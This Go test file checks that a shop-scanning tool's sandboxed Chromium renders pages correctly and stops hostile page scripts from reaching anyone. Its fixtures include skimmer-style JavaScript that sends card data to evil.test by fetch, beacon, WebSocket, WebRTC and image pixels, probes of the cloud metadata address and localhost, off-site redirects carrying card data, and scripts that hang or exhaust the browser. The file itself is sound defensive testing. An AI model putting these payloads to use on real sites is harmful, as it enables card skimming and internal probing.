// Package browser holds rendering to an installed Chromium: what it makes of
// pages, and that nothing which a page does with it reaches anybody. It lies here
// so that it runs with the lab, which installs one.
package browser

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/txtar"

	"shopcheck/scanner/observe"
	"shopcheck/scanner/observe/browser"
	"shopcheck/scanner/pretend"
)

// installed returns the browser's program.
func installed(t *testing.T) string {
	t.Helper()
	path, err := browser.Find()
	if err != nil { // the lab installs one
		t.Fatal(err)
	}
	return path
}

// open looks at the pretend shop that text describes, with a browser.
func open(t *testing.T, text string) (*observe.Site, *pretend.Shop) {
	t.Helper()
	path := installed(t)
	shop, err := pretend.Start(txtar.Parse([]byte("A shop.\n"+text)), pretend.Settings{Now: time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(shop.Close)
	opts := shop.Options()
	opts.Browser = path
	site := observe.Open(t.Context(), shop.Domain(), opts)
	t.Cleanup(site.Close)
	return site, shop
}

// render renders the page /pay of a shop.
func render(t *testing.T, site *observe.Site) *observe.Page {
	t.Helper()
	p, err := site.Render(t.Context(), "https://shop.test/pay")
	if err != nil {
		t.Fatal(err)
	}
	if !p.Rendered {
		t.Error("the page does not say that it is rendered")
	}
	return p
}

// html is a page's file, with lines of header.
func html(body string, header ...string) string {
	return "HTTP/1.1 200 OK\nContent-Type: text/html\n" + strings.Join(append(header, ""), "\n") + "\n<!DOCTYPE html>" + body + "\n"
}

func script(text string) string {
	return "HTTP/1.1 200 OK\nContent-Type: text/javascript\n\n" + text + "\n"
}

// elsewhere has the shop serve other companies' names too.
const elsewhere = "-- dns --\ncdn.test. A 192.0.2.20\nevil.test. A 192.0.2.20\n"

// TestPageOfScripts: a page that scripts build is seen as its visitors see it, with
// the header that came with it, and its parts are fetched once.
func TestPageOfScripts(t *testing.T) {
	site, shop := open(t, elsewhere+
		"-- GET /pay --\n"+html(`<html lang="en"><title>Pay</title><link rel="stylesheet" href="/a.css"><div id="app"></div><script nonce="n0" src="/app.js"></script>`,
		"Content-Security-Policy: script-src 'nonce-n0'", "Set-Cookie: session=secret; Secure")+
		"-- GET /app.js --\n"+script(`
document.querySelector("link").sheet; // a style sheet that failed would end here
fetch("/api/pay?x=1", {headers: {Accept: "application/json"}}).then((r) => r.json()).then((pay) => {
	document.getElementById("app").innerHTML = "<form action=" + pay.action + "><input autocomplete=cc-number></form>";
	const s = document.createElement("script");
	s.src = "https://cdn.test/guest.js"; s.nonce = "n0"; s.onload = () => s.remove();
	document.head.append(s);
	const box = document.createElement("div");
	box.attachShadow({mode: "open"}).innerHTML = "<input type=password>";
	document.body.append(box, document.cookie || "no cookie", navigator.onLine ? " on line" : " off line");
});`)+
		"-- GET /api/pay?x=1 --\nHTTP/1.1 200 OK\nContent-Type: {{request Accept}}\n\n{\"action\": \"https://shop.test/buy\"}\n"+
		"-- GET https://cdn.test/guest.js --\n"+script(`document.body.append(" the guest ran")`))
	p := render(t, site)
	doc := p.Document()
	if len(doc.Forms) != 2 || doc.Forms[0].Action != "https://shop.test/buy" || doc.Forms[0].Inputs[0].Autocomplete != "cc-number" || doc.Forms[1].Inputs[0].Type != "password" {
		t.Errorf("the forms are %+v", doc.Forms)
	}
	if !strings.Contains(doc.Text, "no cookie on line the guest ran") || doc.Title != "Pay" || p.Shell() {
		t.Errorf("the page is titled %q and says %q", doc.Title, doc.Text)
	}
	if i := slices.IndexFunc(doc.Resources, func(r observe.Resource) bool { return r.Kind == "script" }); i < 0 || doc.Resources[i].Nonce != "n0" {
		t.Errorf("the nonce is lost: %+v", doc.Resources)
	}
	if p.Header.Get("Content-Security-Policy") != "script-src 'nonce-n0'" || p.Method != "GET" || p.Status != 200 {
		t.Errorf("%s %d %v", p.Method, p.Status, p.Header)
	}
	want := []observe.Request{
		{Method: "GET", URL: "https://cdn.test/guest.js", Type: "script", Sent: true},
		{Method: "GET", URL: "https://shop.test/a.css", Type: "style"},
		{Method: "GET", URL: "https://shop.test/api/pay?x=1", Type: "fetch", Sent: true},
		{Method: "GET", URL: "https://shop.test/app.js", Type: "script", Sent: true},
	}
	if diff := cmp.Diff(want, withoutIcon(p.Requests)); diff != "" {
		t.Errorf("the page's requests (-want +got):\n%s", diff)
	}
	if _, err := site.Script(t.Context(), "https://cdn.test/guest.js"); err != nil {
		t.Error(err)
	}
	if _, err := site.Again().Render(t.Context(), "https://shop.test/pay"); err != nil {
		t.Error(err)
	}
	asked := []string{"GET https://shop.test/pay", "GET https://shop.test/app.js", "GET https://shop.test/api/pay?x=1", "GET https://cdn.test/guest.js", "GET https://shop.test/pay"}
	if diff := cmp.Diff(asked, shop.Requests()); diff != "" {
		t.Errorf("sent (-want +got):\n%s", diff)
	}
	again, err := observe.Replay("shop.test", site.Looks()).Render(t.Context(), "https://shop.test/pay")
	if err != nil || string(again.Body) != string(p.Body) || !cmp.Equal(again.Requests, p.Requests) || !again.Rendered {
		t.Errorf("replayed: %+v, %v", again, err)
	}
}

// withoutIcon leaves out the icon, which browsers ask for when they like.
func withoutIcon(all []observe.Request) []observe.Request {
	return slices.DeleteFunc(slices.Clone(all), func(r observe.Request) bool { return r.URL == "https://shop.test/favicon.ico" })
}

// TestNothingGetsOut: of all that a page may do to send something, only its GETs
// for scripts and data arrive, and only where a scan may go.
func TestNothingGetsOut(t *testing.T) {
	site, shop := open(t, elsewhere+"-- GET /pay --\n"+html(`<title>Pay</title><script src="/spy.js"></script>
<link rel="preconnect" href="https://evil.test"><link rel="prefetch" href="https://evil.test/prefetched"><link rel="manifest" href="https://evil.test/manifest">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["/spec1"]}], "prerender": [{"source": "list", "urls": ["/spec2"]}]}</script>
<body background="https://evil.test/background"><iframe src="https://evil.test/frame"></iframe><iframe srcdoc="<script>fetch('/frame-fetch', {method: 'POST'})</script>"></iframe>
<img src="https://evil.test/pixel"><video src="https://evil.test/film"></video><a id="ping" href="#there" ping="https://evil.test/ping">.</a>`)+
		"-- GET /spy.js --\n"+script(`
const secret = "card=4111";
const nothing = () => {};
fetch("https://evil.test/post", {method: "POST", body: secret, mode: "no-cors"}).catch(nothing);
fetch("/own-post", {method: "POST", body: secret}).catch(nothing);
fetch("/put", {method: "PUT", body: secret}).catch(nothing);
for (const at of ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1/", "http://[::1]/", "http://localhost/", "https://shop.test:8443/", "http://10.0.0.1/"])
	fetch(at, {mode: "no-cors"}).catch(nothing);
navigator.sendBeacon("https://evil.test/beacon", secret);
new WebSocket("wss://evil.test/socket");
new EventSource("https://evil.test/stream");
try { new WebTransport("https://evil.test/transport"); } catch {}
navigator.serviceWorker.register("/worker.js").catch(nothing);
new Worker("/worker.js");
new SharedWorker("/worker.js");
new Worker(URL.createObjectURL(new Blob(["fetch('https://shop.test/from-worker', {method: 'POST', body: 'x'})"])));
const peer = new RTCPeerConnection({iceServers: [{urls: "stun:evil.test"}]});
peer.createDataChannel("x");
peer.createOffer().then((o) => peer.setLocalDescription(o));
new Image().src = "https://evil.test/image?" + secret;
window.open("https://evil.test/popup");
addEventListener("load", () => {
	document.getElementById("ping").click();
	history.pushState({}, "", "/pay/step1");
	setTimeout(() => { document.body.append("still here"); }, 200);
});`))
	p := render(t, site)
	if !strings.Contains(p.Document().Text, "still here") {
		t.Errorf("the page says %q", p.Document().Text)
	}
	if diff := cmp.Diff([]string{"GET https://shop.test/pay", "GET https://shop.test/spy.js"}, shop.Requests()); diff != "" {
		t.Errorf("what arrived (-want +got):\n%s", diff)
	}
	for _, want := range []observe.Request{
		{Method: "POST", URL: "https://evil.test/post", Type: "fetch"},
		{Method: "POST", URL: "https://evil.test/beacon", Type: "beacon"},
		{Method: "GET", URL: "https://evil.test/frame", Type: "frame"},
		{Method: "GET", URL: "https://evil.test/image", Type: "image"},
		{Method: "GET", URL: "wss://evil.test/socket", Type: "socket"},
		{Method: "GET", URL: "http://169.254.169.254/latest/meta-data/", Type: "fetch"},
		{Method: "GET", URL: "http://127.0.0.1/", Type: "fetch"},
	} {
		if !slices.Contains(p.Requests, want) {
			t.Errorf("%+v is not among %+v", want, p.Requests)
		}
	}
	for _, r := range p.Requests {
		if r.Sent != (r.URL == "https://shop.test/spy.js") {
			t.Errorf("sent: %+v", r)
		}
	}
}

// TestGoneElsewhere: a page that does not stay is no page that visitors see, and
// nothing goes where it leads.
func TestGoneElsewhere(t *testing.T) {
	for _, tt := range []struct {
		name, script string
		cause        observe.Cause
	}{
		{"another company", `location = "https://evil.test/?card=4111"`, observe.OtherCompany},
		{"after a while", `setTimeout(() => { location = "https://evil.test/?card=4111" }, 300)`, observe.OtherCompany},
		{"by a meta element", `document.write("<meta http-equiv=refresh content='0; url=https://evil.test/'>")`, observe.OtherCompany},
		{"a form", `const f = document.createElement("form"); f.method = "post"; f.action = "https://evil.test/"; document.body.append(f); f.submit()`, observe.OtherCompany},
		{"another page", `location = "/login"`, observe.NotFound},
		{"the same page", `location.reload()`, observe.NotFound},
		{"nothing", `location = "about:blank"`, observe.NotFound},
		{"a file", `const a = document.createElement("a"); a.href = "/file"; a.download = "x"; document.body.append(a); a.click()`, observe.NotFound},
		{"itself in a blob", `location = URL.createObjectURL(new Blob(["<p>blob"], {type: "text/html"}))`, observe.NotFound},
	} {
		t.Run(tt.name, func(t *testing.T) {
			site, shop := open(t, elsewhere+"-- GET /pay --\n"+html("<title>Pay</title><body><p>Pay</p><script>"+tt.script+"</script>"))
			p, err := site.Render(t.Context(), "https://shop.test/pay")
			if err == nil {
				t.Fatalf("rendered: %s", p.Body)
			}
			if cause, words := observe.Explain(err); cause != tt.cause {
				t.Errorf("%q (%s), want %q", cause, words, tt.cause)
			}
			if diff := cmp.Diff([]string{"GET https://shop.test/pay"}, shop.Requests()); diff != "" {
				t.Errorf("what arrived (-want +got):\n%s", diff)
			}
		})
	}
}

// TestHostilePages: a page can spoil its own rendering, within bounds, and nothing
// else: the next page is rendered.
func TestHostilePages(t *testing.T) {
	t.Run("pages that are never finished", late)
	for _, tt := range []struct {
		name, body string
		cause      observe.Cause // empty: it is rendered
		cut        bool
		text       string // in the rendered page
	}{
		{"dialogs without end", `<script>setTimeout(() => { document.body.append("asked"); for (let i = 0; i < 50; i++) { alert(i); confirm(i); prompt(i); } document.body.append("done"); });</script>`, "", false, "done"},
		{"dialogs for ever", `<script>for (;;) alert(1);</script>`, observe.Timeout, false, ""},
		{"asks before it goes", `<p>Pay</p><script>onbeforeunload = (e) => { e.preventDefault(); return "stay"; }; location = "/";</script>`, observe.NotFound, false, ""},
		{"a loop", `<p>Pay</p><script>for (;;);</script>`, observe.Timeout, false, ""},
		{"100,000 elements", `<script>for (let i = 0; i < 100000; i++) document.write("<p>x</p>"); document.write("<p>last</p>");</script>`, "", false, "x"},
		{"deep", `<script>let e = document.body; for (let i = 0; i < 20000; i++) { const d = document.createElement("div"); e.append(d); e = d; } document.body.append("deep");</script>`, "any", false, ""},
		{"writes without end", `<script>for (;;) document.write("<p>" + "x".repeat(100000));</script>`, "any", false, ""},
		{"long", `<script>document.body.append("begin" + "x".repeat(3000000))</script>`, "", true, "begin"},
		{"fills memory", `<script>const a = []; for (;;) { const b = new Uint8Array(64 << 20); b.fill(1); a.push(b); }</script>`, "any", false, ""},
		{"changes what it is read by", `<p>Pay</p><script>Element.prototype.getHTML = () => "forged"; document.querySelectorAll = () => []; String.prototype.slice = () => "forged"; Object.defineProperty(document, "URL", {get: () => "https://evil.test/"});</script>`, "", false, "Pay"},
		{"is no document", `<script>document.documentElement.remove()</script>`, "", false, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if tt.cause == observe.Timeout { // these take long
				t.Parallel()
			}
			site, shop := open(t, "-- GET /pay --\n"+html("<title>Pay</title><body>"+tt.body)+"-- GET /next --\n"+html("<script>document.write('<p>next</p>')</script>"))
			began := time.Now()
			p, err := site.Render(t.Context(), "https://shop.test/pay")
			if took := time.Since(began); took > 40*time.Second {
				t.Errorf("it took %s", took)
			}
			var cause observe.Cause
			var words string
			if err != nil {
				cause, words = observe.Explain(err)
			}
			switch {
			case tt.cause == "any": // what the machine has too little of is chance
				if !slices.Contains([]observe.Cause{"", observe.Timeout, observe.Malformed}, cause) {
					t.Errorf("%q: %s", cause, words)
				}
			case cause != tt.cause:
				t.Fatalf("%q (%s), want %q", cause, words, tt.cause)
			}
			if err == nil && tt.cause == "" && (p.Cut != tt.cut || !strings.Contains(p.Document().Text, tt.text) || len(p.Body) > 2<<20) {
				t.Errorf("cut %v, %d bytes, %.100q", p.Cut, len(p.Body), p.Document().Text)
			}
			if q, err := site.Render(t.Context(), "https://shop.test/next"); err != nil || !strings.Contains(q.Document().Text, "next") {
				t.Errorf("the next page: %v", err)
			}
			for _, r := range shop.Requests() {
				if !strings.HasPrefix(r, "GET https://shop.test/") {
					t.Errorf("sent: %s", r)
				}
			}
		})
	}
}

// slow is a page that no browser finishes.
var slow = html("<p>Pay</p><script>setTimeout(() => { for (;;); }, 100)</script>")

// late is a shop whose pages are never finished, which does not take the scan's
// time for ever.
func late(t *testing.T) {
	t.Parallel()
	site, _ := open(t, "-- GET /1 --\n"+slow+"-- GET /2 --\n"+slow+"-- GET /3 --\n"+html("<p>quick</p>"))
	for _, path := range []string{"/1", "/2", "/3"} {
		began := time.Now()
		_, err := site.Render(t.Context(), "https://shop.test"+path)
		if cause, words := observe.Explain(err); err == nil || cause != observe.Timeout || strings.Contains(words, "any more") != (path == "/3") {
			t.Errorf("%s: %v", path, err)
		}
		if took := time.Since(began); path == "/3" && took > 2*time.Second {
			t.Errorf("not being asked took %s", took)
		}
	}
}

// TestLeavesNothing: when a scan is over, nothing of its browser is left, not even
// of one that hangs.
func TestLeavesNothing(t *testing.T) {
	dir, err := os.MkdirTemp("/tmp", "browser-") // t.TempDir's name is longer than a browser likes
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = os.RemoveAll(dir) }()
	t.Setenv("TMPDIR", dir)
	site, _ := open(t, "-- GET /pay --\n"+slow)
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Second)
	defer cancel()
	if p, err := site.Render(ctx, "https://shop.test/pay"); err == nil {
		t.Errorf("rendered: %s", p.Body)
	} else {
		t.Log(err)
	}
	if len(running(t, dir)) == 0 {
		t.Error("no browser runs that could be left: this test looks in the wrong place")
	}
	began := time.Now()
	site.Close()
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("closing took %s", took)
	}
	if left, err := os.ReadDir(dir); err != nil || len(left) > 0 {
		t.Errorf("left behind: %v, %v", left, err)
	}
	for range 100 { // the last helpers end by themselves
		if len(running(t, dir)) == 0 {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Errorf("still running: %q", running(t, dir))
}

// running returns the command lines of processes that speak of a folder.
func running(t *testing.T, dir string) []string {
	t.Helper()
	files, err := filepath.Glob("/proc/[0-9]*/cmdline")
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	for _, f := range files {
		line, err := os.ReadFile(f)
		if err == nil && strings.Contains(string(line), dir) {
			lines = append(lines, string(line))
		}
	}
	return lines
}
